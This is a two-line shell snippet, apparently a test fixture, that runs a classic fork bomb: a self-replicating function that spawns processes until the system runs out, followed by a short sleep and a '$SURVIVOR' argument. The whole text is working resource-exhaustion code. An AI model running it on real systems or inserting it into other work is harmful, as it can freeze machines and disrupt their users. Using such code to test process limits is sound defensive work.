# A bomb.
exec sh -c 'f() { f | f & }; f; sleep 3' "$SURVIVOR"
